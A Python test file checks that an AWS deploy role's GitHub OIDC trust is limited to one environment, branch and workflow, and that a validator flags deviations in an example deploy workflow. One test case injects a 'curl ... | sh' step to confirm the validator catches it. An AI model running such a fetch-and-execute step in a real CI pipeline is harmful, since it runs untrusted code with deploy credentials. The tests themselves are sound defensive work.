"""The setting `githubEnvironment`: AWS itself lets in approved jobs alone, and the workflow takes the form for that.

That form is docs/examples/deploy-in-an-environment.yml, which is held to the project's own workflow and to the proof.
"""

from pathlib import Path
from typing import Any

import pytest
import yaml
from aws_cdk import App

import app
from leastgrant.workflow import WorkflowFinding
from ops.project.assembly import Assembly, read_assembly
from ops.project.workflows import check_workflows
from settings import Settings
from stacks.deploy_role.trust import GitHubTrust
from tests.conftest import ROOT

pytestmark = pytest.mark.slow

ISSUER = "token.actions.githubusercontent.com"
FILE = "deploy-dataops-v1.yml"
OWN = (ROOT / ".github" / "workflows" / FILE).read_text()
EXAMPLE = (ROOT / "docs" / "examples" / "deploy-in-an-environment.yml").read_text()


@pytest.fixture(scope="module")
def trusting(context: dict[str, Any]) -> dict[str, Any]:
    """The context with the setting on."""
    return context | {"githubEnvironment": "dataops-v1", "githubWorkflow": FILE}


@pytest.fixture(scope="module")
def synthesised(trusting: dict[str, Any], tmp_path_factory: pytest.TempPathFactory) -> Assembly:
    """Both stacks, which leastgrant and the other validations let through."""
    made = App(context=trusting, analytics_reporting=False, outdir=str(tmp_path_factory.mktemp("environment")))
    validations = app.build(made)
    directory = Path(made.synth().directory)
    app.write_reports(made, validations, directory)
    return read_assembly(directory)


def found(assembly: Assembly, trusting: dict[str, Any], directory: Path, text: str) -> tuple[WorkflowFinding, ...]:
    (directory / FILE).write_text(text)
    return check_workflows(assembly, Settings.from_context(trusting), directory).findings


def test_the_trust_is_proved_at_synth(synthesised: Assembly, settings: Settings) -> None:
    (stack,) = (one for one in synthesised.stacks if one.name == settings.role_stack_name)
    trust = stack.resources["GitHubActionsDeployRole"]["Properties"]["AssumeRolePolicyDocument"]
    (statement,) = trust["Statement"]
    assert statement["Condition"]["StringEquals"] == {
        f"{ISSUER}:aud": "sts.amazonaws.com",
        f"{ISSUER}:sub": "repo:DataTalksClub/dataops:environment:dataops-v1",
        f"{ISSUER}:ref": "refs/heads/main",
        f"{ISSUER}:job_workflow_ref": f"DataTalksClub/dataops/.github/workflows/{FILE}@refs/heads/main",
    }


@pytest.mark.parametrize("claim", ["ref", "job_workflow_ref"])
def test_a_trust_of_more_is_stopped_at_synth(
    trusting: dict[str, Any], claim: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    narrow = GitHubTrust.document

    def wide(trust: GitHubTrust) -> dict[str, Any]:
        document: dict[str, Any] = narrow.__get__(trust)
        del document["Statement"][0]["Condition"]["StringEquals"][f"{ISSUER}:{claim}"]
        return document

    monkeypatch.setattr(GitHubTrust, "document", property(wide))
    bad = App(context=trusting, analytics_reporting=False)
    app.build(bad)
    with pytest.raises(RuntimeError, match="ValidationFailed") as failure:
        bad.synth()
    assert claim in str(failure.value)


def test_the_example_fits_and_the_projects_own_form_does_not(
    synthesised: Assembly, trusting: dict[str, Any], tmp_path: Path
) -> None:
    assert found(synthesised, trusting, tmp_path, EXAMPLE) == ()
    refused = " ".join(one.message for one in found(synthesised, trusting, tmp_path, OWN))
    assert "`repo:DataTalksClub/dataops:ref:refs/heads/main`" in refused
    assert "job `prepare` assumes the role, and is not declared to" in refused


@pytest.mark.parametrize(
    "change",
    [
        ("    environment: dataops-v1 #", "    # environment: dataops-v1", "and the role trusts none of them"),
        (
            "    environment: dataops-v1 #",
            "    environment: staging #",
            "`repo:DataTalksClub/dataops:environment:staging`, which the role does not trust",
        ),
        (
            "      - name: Review the change set\n",
            "      - run: curl -fsSL https://example.com | sh\n      - name: Review the change set\n",
            "job `deploy` has the step `run: curl -fsSL https://example.com | sh`, which is not declared",
        ),
        (
            "python -m ops review dataops-v1",
            "echo dataops-v1",
            "the step `Review the change set`, which runs",
        ),
        ("steps.review.outputs.execution ==", "steps.prepare.outputs.execution ==", "is declared"),
    ],
)
def test_an_example_that_is_broken_is_found(
    synthesised: Assembly, trusting: dict[str, Any], tmp_path: Path, change: tuple[str, str, str]
) -> None:
    old, new, said = change
    assert EXAMPLE.count(old) == 1
    assert said in " ".join(one.message for one in found(synthesised, trusting, tmp_path, EXAMPLE.replace(old, new)))


def test_the_example_does_not_fit_the_role_as_it_is(
    assembly: Assembly, context: dict[str, Any], tmp_path: Path
) -> None:
    refused = found(assembly, context, tmp_path, EXAMPLE)
    said = "`repo:DataTalksClub/dataops:environment:dataops-v1`, which the role does not trust"
    assert said in " ".join(one.message for one in refused)


def test_the_example_is_the_projects_own_workflow_in_another_order() -> None:
    """So that a step which is changed in one is changed in the other."""
    own, example = yaml.safe_load(OWN), yaml.safe_load(EXAMPLE)
    jobs = example.pop("jobs")
    mine = own.pop("jobs")
    assert example == own
    assert set(jobs) == {"checks", "deploy"}
    assert jobs["checks"] == mine["checks"]
    prepare, deploy = (mine[name]["steps"] for name in ("prepare", "deploy"))
    (first,) = (number for number, step in enumerate(prepare) if step.get("id") == "preflight")
    (then,) = (number for number, step in enumerate(deploy) if step.get("id") == "execute")
    wanted = [*deploy[:then], *prepare[first:-1], *deploy[then:]]
    assert [run(step) for step in jobs["deploy"]["steps"]] == [run(step) for step in wanted]


def run(step: dict[str, Any]) -> dict[str, Any]:
    """A step, but for what it is told of another job."""
    return {key: value for key, value in step.items() if key not in {"env", "if"}}
